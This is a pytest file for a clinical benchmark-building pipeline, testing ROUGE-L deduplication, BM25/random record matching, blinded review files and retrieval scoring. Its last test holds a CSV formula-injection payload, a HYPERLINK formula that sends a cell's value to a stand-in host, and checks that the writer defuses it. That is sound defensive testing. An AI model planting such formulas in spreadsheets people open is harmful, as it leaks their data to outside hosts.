"""MedAlign dataset building: ROUGE-L near-duplicate removal, blinded BM25/random matching, scoring."""

from __future__ import annotations

import csv
import json
import random
from collections import Counter
from pathlib import Path

import pytest
from rouge_score.rouge_scorer import RougeScorer

from clinieval.benchmarks.medalign.build.dedupe import (
    REMOVED_COLUMNS,
    dedupe_file,
    dedupe_instructions,
    removed_path,
    rouge_l,
)
from clinieval.benchmarks.medalign.build.evaluate import score_matching
from clinieval.benchmarks.medalign.build.instructions import Instruction, read_instructions
from clinieval.benchmarks.medalign.build.matching import build_cohort_index, match_instructions
from clinieval.benchmarks.medalign.build.review import (
    KEY_COLUMNS,
    REVIEW_COLUMNS,
    key_path,
    match_file,
    read_review,
    write_review,
)
from clinieval.ehr import synth
from clinieval.ehr.medalign_xml import write_xml
from clinieval.ehr.timeline import Timeline
from clinieval.errors import UserError
from tests.conftest import need_shared

TEN = "w1 w2 w3 w4 w5 w6 w7 w8 w9 w10"


def changed(text: str, *positions: int) -> str:
    """``text`` with the words at ``positions`` (0-based) replaced by new ones."""
    words = text.split()
    for p in positions:
        words[p] = f"x{p}"
    return " ".join(words)


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def public_instructions() -> list[tuple[str, str]]:
    rows = read_csv(need_shared("medalign") / "instructions-sample.csv")
    return [(r["instruction_id"], r["question"]) for r in rows]


def brute_force_dedupe(
    items: list[tuple[str, str]], threshold: float = 0.7
) -> tuple[list[str], dict[str, str]]:
    """The definition, pair by pair, with rouge-score itself."""
    scorer = RougeScorer(["rougeL"])
    kept: list[tuple[str, str]] = []
    removed: dict[str, str] = {}
    for iid, text in items:
        sims = [(scorer.score(k_text, text)["rougeL"].fmeasure, k_id) for k_id, k_text in kept]
        best = max(sims, key=lambda s: s[0], default=(0.0, ""))
        if best[0] > threshold:
            removed[iid] = best[1]
        else:
            kept.append((iid, text))
    return [k for k, _ in kept], removed


# ---------------------------------------------------------------------------------------------
# ROUGE-L and near-duplicate removal


def test_rouge_l_hand_computed() -> None:
    assert rouge_l(TEN, TEN) == 1.0
    assert rouge_l(TEN, changed(TEN, 4)) == pytest.approx(0.9)  # LCS 9 of 10 and 10
    assert rouge_l(TEN, changed(TEN, 0, 5, 9)) == pytest.approx(0.7)  # LCS 7: exactly the cut-off
    assert rouge_l(TEN, changed(TEN, 1, 3, 5, 7)) == pytest.approx(0.6)
    assert rouge_l("w1 w2 w3 w4", "w4 w3 w2 w1") == pytest.approx(0.25)  # order matters: LCS 1
    assert rouge_l("Fever, CHILLS!", "fever chills") == 1.0  # rouge-score: lowercase, [a-z0-9] runs
    assert rouge_l("", TEN) == 0.0


def test_dedupe_hand_made() -> None:
    items = [
        ("a", TEN),
        ("same", TEN),  # F = 1
        ("one-word", changed(TEN, 4)),  # F = 0.9
        ("at-cut-off", changed(TEN, 0, 5, 9)),  # F = 0.7, not above it
        ("far", changed(TEN, 1, 3, 5, 7)),  # F = 0.6
        ("other", "summarize the discharge medications"),
    ]
    d = dedupe_instructions(items)
    assert d.kept == ("a", "at-cut-off", "far", "other")
    assert [(x.instruction_id, x.duplicate_of) for x in d.removed] == [("same", "a"), ("one-word", "a")]
    assert [x.rouge_l for x in d.removed] == pytest.approx([1.0, 0.9])
    assert json.loads(json.dumps(d.to_dict()))["n_removed"] == 2
    assert "6 instructions: 4 kept, 2 removed" in d.summary()


def test_dedupe_compares_with_earlier_kept_only() -> None:
    a = TEN
    b = changed(a, 1, 2)  # F(a, b) = 0.8
    c = changed(b, 6, 7)  # F(b, c) = 0.8 but F(a, c) = 0.6
    forward = dedupe_instructions([("a", a), ("b", b), ("c", c)])
    assert forward.kept == ("a", "c")  # c's near twin b was already removed
    assert [(x.instruction_id, x.duplicate_of) for x in forward.removed] == [("b", "a")]
    backward = dedupe_instructions([("c", c), ("b", b), ("a", a)])
    assert backward.kept == ("c", "a")  # the first of two duplicates stays
    assert [(x.instruction_id, x.duplicate_of) for x in backward.removed] == [("b", "c")]


def test_dedupe_names_the_most_similar_kept_instruction() -> None:
    a, b = TEN, changed(TEN, 0, 1, 2, 3)  # F(a, b) = 0.6: both kept
    d = changed(TEN, 0, 1)  # F(a, d) = 0.8, F(b, d) = 0.8 as well ...
    e = changed(TEN, 1, 2, 3)  # ... F(a, e) = 0.7, F(b, e) = 0.9
    result = dedupe_instructions([("a", a), ("b", b), ("d", d), ("e", e)])
    assert result.kept == ("a", "b")
    assert {x.instruction_id: x.duplicate_of for x in result.removed} == {"d": "a", "e": "b"}  # tie: earlier


def test_dedupe_threshold_and_ids_are_checked() -> None:
    with pytest.raises(UserError, match="between 0 and 1"):
        dedupe_instructions([("a", TEN)], threshold=1.5)
    with pytest.raises(UserError, match="'a'"):
        dedupe_instructions([("a", TEN), ("a", "other")])


def test_rouge_l_equals_rouge_score_on_public_instructions() -> None:
    texts = [t for _, t in public_instructions()]
    assert len(texts) == 62
    plain, stemmed = RougeScorer(["rougeL"]), RougeScorer(["rougeL"], use_stemmer=True)
    for a in texts:
        for b in texts:
            assert rouge_l(a, b) == plain.score(a, b)["rougeL"].fmeasure, (a, b)
            assert rouge_l(a, b, use_stemmer=True) == stemmed.score(a, b)["rougeL"].fmeasure, (a, b)


def test_dedupe_equals_the_definition_on_public_instructions() -> None:
    """The bounds only skip work: same kept list and same twins as the pair-by-pair definition."""
    real = public_instructions()
    rng = random.Random(7)
    vocab = sorted({w for _, t in real for w in t.split()})
    items = list(real)
    for n in range(120):  # near and not-so-near variants of the public instructions, shuffled in
        words = rng.choice(real)[1].split()
        for _ in range(rng.choice([1, 1, 2, 3, 5])):
            words[rng.randrange(len(words))] = rng.choice(vocab)
        items.append((f"v{n}", " ".join(words)))
    rng.shuffle(items)
    d = dedupe_instructions(items)
    kept, twins = brute_force_dedupe(items)
    assert list(d.kept) == kept
    assert {x.instruction_id: x.duplicate_of for x in d.removed} == twins
    assert 20 < len(d.removed) < 120
    assert d.exact_comparisons < len(items) * (len(items) - 1) // 20  # the bounds did skip most pairs
    # 7 of 7 and 7 of 13 words: F is 0.7 on paper, 0.7000000000000001 in rouge-score's floats
    edge = dedupe_instructions(
        [("long", " ".join(f"w{i}" for i in range(13))), ("short", "w0 w1 w2 w3 w4 w5 w6")]
    )
    assert edge.kept == ("long",) and edge.removed[0].rouge_l > 0.7


# ---------------------------------------------------------------------------------------------
# Instruction files


def test_read_instructions(tmp_path: Path) -> None:
    path = tmp_path / "ins.csv"
    path.write_text(
        "\ufeffinstruction_id,question,patient_characteristics,clinical_context,note\n"
        '1,"What is the latest HbA1c?",62 year old woman,diabetes clinic,x\n'
        "\n"
        "2,List the current medications,,,y\n",
        encoding="utf-8",
    )
    first, second = read_instructions(path)
    assert first == Instruction(
        "1", "What is the latest HbA1c?", "62 year old woman", "diabetes clinic", line=2
    )
    assert first.query() == "What is the latest HbA1c?\n62 year old woman\ndiabetes clinic"
    assert (second.line, second.query(), second.row["note"]) == (4, "List the current medications", "y")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", r"ins\.csv is empty"),
        ("id,question\n1,a\n", r"no column 'instruction_id'.*header is: id, question"),
        ("instruction_id,text\n1,a\n", r"no column 'question'.*header is: instruction_id, text"),
        ("instruction_id,question\n1,a\n ,b\n", r"ins\.csv:3:1 \(column 'instruction_id'\): empty"),
        ("instruction_id,question\n1,a\n2,b\n1,c\n", r"ins\.csv:4:1 .*'1' repeats line 2"),
        ("instruction_id,question\n1,\n", r"ins\.csv:2:2 \(column 'question'\): empty question"),
        ("instruction_id,question\n1,a,extra\n", r"ins\.csv:2: 3 fields, but the header has 2"),
        ("instruction_id,question\n", r"no instructions"),
    ],
)
def test_bad_instruction_files(tmp_path: Path, text: str, message: str) -> None:
    path = tmp_path / "ins.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(UserError, match=message):
        read_instructions(path)


def test_missing_instruction_file(tmp_path: Path) -> None:
    with pytest.raises(UserError, match=r"instructions file .*nope\.csv not found"):
        read_instructions(tmp_path / "nope.csv")


def test_dedupe_file(tmp_path: Path) -> None:
    src = write_csv(
        tmp_path / "ins.csv",
        [
            ["instruction_id", "question", "source"],
            ["1", TEN, "s1"],
            ["2", changed(TEN, 3), "s2"],
            ["3", "what is the creatinine trend", "s3"],
        ],
    )
    d = dedupe_file(src, tmp_path / "kept.csv")
    assert d.kept == ("1", "3")
    assert read_csv(tmp_path / "kept.csv") == [
        {"instruction_id": "1", "question": TEN, "source": "s1"},
        {"instruction_id": "3", "question": "what is the creatinine trend", "source": "s3"},
    ]
    removed = read_csv(removed_path(tmp_path / "kept.csv"))
    assert removed_path(tmp_path / "kept.csv").name == "kept.removed.csv"
    assert list(removed[0]) == list(REMOVED_COLUMNS)
    assert (removed[0]["instruction_id"], removed[0]["duplicate_of"], float(removed[0]["rougeL"])) == (
        "2",
        "1",
        0.9,
    )
    with pytest.raises(UserError, match="is the input file"):
        dedupe_file(src, src)


# ---------------------------------------------------------------------------------------------
# Matching


@pytest.fixture(scope="module")
def cohort(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    """12 synthetic patients as XML files, and for each patient whose record holds a condition or
    drug no other patient has, that concept's name (file name -> name)."""
    folder = tmp_path_factory.mktemp("cohort")
    timelines = list(synth.generate(12, seed=3))
    names = {tl.person.person_id: _concepts(tl) for tl in timelines}
    counts = Counter(n for ns in names.values() for n in ns)
    distinctive: dict[str, str] = {}
    for tl in timelines:
        file = f"patient-{tl.person.person_id}.xml"
        write_xml(tl, folder / file)
        own = sorted(n for n in names[tl.person.person_id] if counts[n] == 1)
        if own:
            distinctive[file] = own[0]
    assert len(distinctive) >= 4
    return folder, distinctive


def _concepts(tl: Timeline) -> set[str]:
    return {e.name for e in tl.events if e.domain in ("condition_occurrence", "drug_exposure")}


def instructions_for(distinctive: dict[str, str]) -> list[Instruction]:
    return [
        Instruction(f"q{n}", f"Summarize how the {name} was managed", "adult patient", "outpatient follow-up")
        for n, name in enumerate(distinctive.values())
    ]


def test_cohort_index(cohort: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    folder, _ = cohort
    index, ehrs = build_cohort_index(folder)
    assert ehrs == sorted(p.name for p in folder.glob("*.xml")) == index.ids
    assert len(ehrs) == 12
    with pytest.raises(UserError, match=r"holds no \.xml files"):
        build_cohort_index(tmp_path)
    with pytest.raises(UserError, match="is not a folder"):
        build_cohort_index(tmp_path / "missing")
    (tmp_path / "bad.xml").write_text("<html><body/></html>", encoding="utf-8")
    with pytest.raises(UserError, match=r"bad\.xml.*not a MedAlign EHR"):
        build_cohort_index(tmp_path)


def test_distinctive_instruction_retrieves_its_patient_first(cohort: tuple[Path, dict[str, str]]) -> None:
    folder, distinctive = cohort
    index, _ = build_cohort_index(folder)
    matches = match_instructions(instructions_for(distinctive), index, k=5, seed=1, random_pool="rest")
    for m, target in zip(matches, distinctive, strict=True):
        assert m.bm25[0][0] == target, (m.instruction.question, m.bm25)
        assert 1 <= len(m.bm25) <= 5
        assert len(m.random) == 5
        assert not {e for e, _ in m.bm25} & set(m.random)  # the "rest" pool excludes BM25's
        assert sorted(m.shown) == sorted({e for e, _ in m.bm25} | set(m.random))
    # seeded per instruction: the same draw again, and whatever the other instructions are
    again = match_instructions(instructions_for(distinctive)[::-1], index, k=5, seed=1, random_pool="rest")[
        ::-1
    ]
    assert [(m.random, m.shown) for m in again] == [(m.random, m.shown) for m in matches]
    other = match_instructions(instructions_for(distinctive), index, k=5, seed=2, random_pool="rest")
    assert [m.random for m in other] != [m.random for m in matches]


def test_review_is_blinded_and_key_round_trips(cohort: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    folder, distinctive = cohort
    index, _ = build_cohort_index(folder)
    matches = match_instructions(instructions_for(distinctive), index, k=5, seed=0, random_pool="cohort")
    key = write_review(matches, tmp_path / "review.csv")
    assert key == key_path(tmp_path / "review.csv") == tmp_path / "review.key.csv"
    review = read_csv(tmp_path / "review.csv")
    assert list(review[0]) == list(REVIEW_COLUMNS)  # nothing says bm25 or random, no rank, no score
    assert all(r["relevant"] == "" for r in review)
    for m in matches:
        rows = [r for r in review if r["instruction_id"] == m.instruction.instruction_id]
        assert [r["ehr"] for r in rows] == list(m.shown)
        assert [r["candidate"] for r in rows] == [str(n) for n in range(1, len(rows) + 1)]
        assert len(set(m.shown)) == len(m.shown)  # an EHR found by both is shown once
    unshuffled = [[e for e, _ in m.bm25] + [e for e in m.random if e not in dict(m.bm25)] for m in matches]
    assert [list(m.shown) for m in matches] != unshuffled
    rows = read_csv(key)
    assert list(rows[0]) == list(KEY_COLUMNS)
    for m in matches:
        mine = [r for r in rows if r["instruction_id"] == m.instruction.instruction_id]
        bm25 = sorted((int(r["bm25_rank"]), r["ehr"], float(r["bm25_score"])) for r in mine if r["bm25_rank"])
        assert [(e, s) for _, e, s in bm25] == list(m.bm25)  # scores round-trip exactly
        drawn = sorted((int(r["random_rank"]), r["ehr"]) for r in mine if r["random_rank"])
        assert tuple(e for _, e in drawn) == m.random
    both = [r for r in rows if r["source"] == "bm25+random"]
    assert both, "with 12 patients, 5 + 5 candidates overlap somewhere"
    assert all(r["bm25_rank"] and r["random_rank"] for r in both)


def test_match_file_then_score_end_to_end(cohort: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    folder, distinctive = cohort
    ins = write_csv(
        tmp_path / "ins.csv",
        [["instruction_id", "question", "patient_characteristics", "clinical_context"]]
        + [
            [i.instruction_id, i.question, i.patient_characteristics, i.clinical_context]
            for i in instructions_for(distinctive)
        ],
    )
    summary = match_file(ins, folder, tmp_path / "review.csv", k=3, seed=4, random_pool="rest")
    assert (summary.n_instructions, summary.n_ehrs, summary.key.name) == (
        len(distinctive),
        12,
        "review.key.csv",
    )
    assert "review.csv" in summary.summary()
    target = {f"q{n}": file for n, file in enumerate(distinctive)}
    rows = read_csv(tmp_path / "review.csv")
    for r in rows:  # the reviewer: only the patient with the named condition is relevant
        r["relevant"] = "1" if r["ehr"] == target[r["instruction_id"]] else "0"
    with (tmp_path / "review.csv").open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(REVIEW_COLUMNS))
        writer.writeheader()
        writer.writerows(rows)
    scores = score_matching(tmp_path / "review.csv", summary.key)
    assert scores.k_max == 3
    assert scores.bm25.success == {1: 1.0, 2: 1.0, 3: 1.0} and scores.bm25.mrr[3] == 1.0
    assert scores.random.success == {1: 0.0, 2: 0.0, 3: 0.0}  # the "rest" pool never holds the target


# ---------------------------------------------------------------------------------------------
# Scoring a review

KEY = [
    list(KEY_COLUMNS),
    ["q1", "A", "bm25", "1", "9.5", ""],
    ["q1", "B", "bm25", "2", "7.25", ""],
    ["q1", "C", "bm25", "3", "1.0", ""],
    ["q1", "D", "random", "", "", "1"],
    ["q1", "E", "random", "", "", "2"],
    ["q1", "F", "random", "", "", "3"],
    ["q2", "A", "bm25", "1", "5", ""],
    ["q2", "B", "bm25", "2", "4", ""],
    ["q2", "C", "bm25", "3", "3", ""],
    ["q2", "D", "random", "", "", "1"],
    ["q2", "E", "random", "", "", "2"],
    ["q2", "F", "random", "", "", "3"],
    ["q3", "A", "bm25", "1", "5", ""],
    ["q3", "B", "bm25", "2", "4", ""],
    ["q3", "C", "bm25", "3", "3", ""],
    ["q3", "D", "random", "", "", "1"],
    ["q3", "E", "random", "", "", "2"],
    ["q3", "F", "random", "", "", "3"],
    ["q4", "A", "bm25+random", "1", "2", "3"],  # BM25 found one; the random draw hit it third
    ["q4", "B", "random", "", "", "1"],
    ["q4", "C", "random", "", "", "2"],
]
# relevance of each (instruction, EHR); review rows are written in a scrambled order
RELEVANT = {
    "q1": {"A": "0", "B": "1", "C": "0", "D": "0", "E": "0", "F": "1"},
    "q2": {"A": "1", "B": "0", "C": "1", "D": "0", "E": "1", "F": "0"},
    "q3": {"A": "0", "B": "0", "C": "0", "D": "0", "E": "0", "F": "0"},
    "q4": {"A": "0", "B": "1", "C": "0"},
}


def write_review_file(tmp_path: Path, relevant: dict[str, dict[str, str]] = RELEVANT) -> Path:
    rows = [
        [iid, "question?", "", "", "0", ehr, rel]
        for iid, cells in relevant.items()
        for ehr, rel in cells.items()
    ]
    random.Random(0).shuffle(rows)
    return write_csv(tmp_path / "review.csv", [list(REVIEW_COLUMNS), *rows])


def test_score_matching_hand_computed(tmp_path: Path) -> None:
    key = write_csv(tmp_path / "review.key.csv", KEY)
    scores = score_matching(write_review_file(tmp_path), key)
    assert (scores.k_max, scores.n_instructions, scores.n_candidates, scores.n_relevant) == (3, 4, 21, 6)
    # BM25 first relevant: q1 rank 2, q2 rank 1, q3 none, q4 none
    assert scores.bm25.success == pytest.approx({1: 0.25, 2: 0.5, 3: 0.5})
    assert scores.bm25.mrr == pytest.approx({1: 0.25, 2: (0.5 + 1) / 4, 3: (0.5 + 1) / 4})
    # random first relevant in draw order: q1 3rd, q2 2nd, q3 none, q4 1st (A, drawn 3rd, is not relevant)
    assert scores.random.success == pytest.approx({1: 0.25, 2: 0.5, 3: 0.75})
    assert scores.random.mrr == pytest.approx({1: 0.25, 2: (0.5 + 1) / 4, 3: (1 / 3 + 0.5 + 1) / 4})
    assert scores.bm25.n == scores.random.n == {1: 4, 2: 4, 3: 4}
    as_json = json.loads(json.dumps(scores.to_dict()))
    assert as_json["bm25"]["success_at_k"]["2"] == 0.5 and as_json["random"]["n_at_k"]["3"] == 4
    assert "random success" in scores.to_text()
    top2 = score_matching(tmp_path / "review.csv", key, k_max=2)
    assert list(top2.bm25.success) == [1, 2]
    with pytest.raises(UserError, match="between 1 and 3"):
        score_matching(tmp_path / "review.csv", key, k_max=5)


def test_unjudged_candidates(tmp_path: Path) -> None:
    key = write_csv(tmp_path / "review.key.csv", KEY)
    partial = {iid: dict(cells) for iid, cells in RELEVANT.items()}
    partial["q1"]["B"] = ""  # BM25 rank 2 of q1, its first relevant one
    partial["q3"]["F"] = ""  # random draw 3 of q3
    review = write_review_file(tmp_path, partial)
    lines = sorted(n for n, r in enumerate(read_csv(review), 2) if not r["relevant"])
    with pytest.raises(UserError, match=rf"2 candidates have no 1/0 .*lines {lines[0]}, {lines[1]}\)"):
        score_matching(review, key)
    scores = score_matching(review, key, allow_unjudged=True)
    assert scores.n_unjudged == 2
    # q1's BM25 value is decided at K=1 (rank 1 judged not relevant), open from K=2 on
    assert scores.bm25.n == {1: 4, 2: 3, 3: 3}
    assert scores.bm25.success == pytest.approx({1: 0.25, 2: 1 / 3, 3: 1 / 3})
    # q3's random draw is open only at K=3; q1's third draw is relevant after two judged zeros
    assert scores.random.n == {1: 4, 2: 4, 3: 3}
    assert scores.random.success[3] == pytest.approx(1.0)


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (
            lambda rows: rows[3].__setitem__(6, "yes"),
            r"review\.csv:4:7 \(column 'relevant'\): 'yes' is not 1",
        ),
        (lambda rows: rows[5].__setitem__(6, "2"), r"review\.csv:6:7 .*'2' is not 1"),
        (
            lambda rows: rows.append(["q9", "", "", "", "1", "Z", "1"]),
            r"review\.csv:23: instruction 'q9', EHR 'Z' is not in the key",
        ),
        (lambda rows: rows.pop(4), r"1 candidates of the key are missing"),
        (lambda rows: rows.append(list(rows[1])), r"review\.csv:23: 'q.' / '.' repeats line 2"),
        (lambda rows: [r.pop() for r in rows], r"no column 'relevant'.*header is: instruction_id, question"),
    ],
)
def test_bad_review_files(tmp_path: Path, edit: object, message: str) -> None:
    key = write_csv(tmp_path / "review.key.csv", KEY)
    with write_review_file(tmp_path).open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    edit(rows)  # type: ignore[operator]
    review = write_csv(tmp_path / "review.csv", rows)
    with pytest.raises(UserError, match=message):
        score_matching(review, key)


@pytest.mark.parametrize(
    ("row", "message"),
    [
        (
            ["q5", "A", "bm25", "0", "1", ""],
            r"review\.key\.csv:23:4 \(column 'bm25_rank'\): '0' is not a rank",
        ),
        (
            ["q5", "A", "random", "1", "1", ""],
            r"review\.key\.csv:23:3 .*'random' disagrees with the ranks \(bm25\)",
        ),
        (["q5", "A", "bm25", "2", "1", ""], r"instruction 'q5': bm25 ranks \[2\] are not 1\.\.1"),
        (["q1", "A", "bm25", "1", "1", ""], r"review\.key\.csv:23: 'q1' / 'A' repeats line 2"),
    ],
)
def test_bad_key_files(tmp_path: Path, row: list[str], message: str) -> None:
    key = write_csv(tmp_path / "review.key.csv", [*KEY, row])
    with pytest.raises(UserError, match=message):
        score_matching(write_review_file(tmp_path), key)


def test_review_cells_that_would_run_as_formulas_are_inert_and_read_back(
    cohort: tuple[Path, dict[str, str]], tmp_path: Path
) -> None:
    folder, distinctive = cohort
    index, _ = build_cohort_index(folder)
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    [_, *rest] = instructions_for(distinctive)
    instructions = [Instruction("-1", evil, "@adult", "+outpatient"), *rest]
    matches = match_instructions(instructions, index, k=2, seed=0, random_pool="cohort")
    write_review(matches, tmp_path / "review.csv")
    rows = read_csv(tmp_path / "review.csv")
    mine = [r for r in rows if r["question"].endswith('"open")')]
    assert mine and all(r["question"] == "'" + evil for r in mine)
    assert all(r["instruction_id"] == "'-1" and r["patient_characteristics"] == "'@adult" for r in mine)
    for r in rows:  # a clinician marks every candidate; the review reads back under the real ids
        r["relevant"] = "1"
    with (tmp_path / "review.csv").open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    assert ("-1", mine[0]["ehr"]) in read_review(tmp_path / "review.csv")
